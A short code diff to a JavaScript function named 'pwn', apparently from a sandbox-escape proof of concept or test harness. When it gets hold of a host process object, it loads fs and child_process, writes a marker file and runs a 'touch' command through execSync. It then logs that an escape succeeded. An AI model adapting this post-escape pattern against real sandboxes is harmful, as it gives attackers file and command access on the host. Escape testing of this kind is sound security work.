@@ -6,9 +6,10 @@ function pwn(p, marker, notes, label) {
     if (!p || (typeof p !== "object" && typeof p !== "function")) { notes.push(label + ": nothing"); return false; }
     const get = typeof p.getBuiltinModule === "function" ? (n) => p.getBuiltinModule(n) : p.mainModule ? (n) => p.mainModule.require(n) : null;
     if (!get) { notes.push(label + ": no process"); return false; }
+    // Holding the host process is the escape, whether or not the permission model then stops the write.
+    notes.push(label + ": ESCAPED to the host process");
     get("fs").writeFileSync(marker, "escaped via " + label);
     try { get("child_process").execSync("touch " + marker + ".cp"); } catch (e) {}
-    notes.push(label + ": ESCAPED");
     return true;
   } catch (e) { notes.push(label + ": " + String(e && e.message)); return false; }
 }
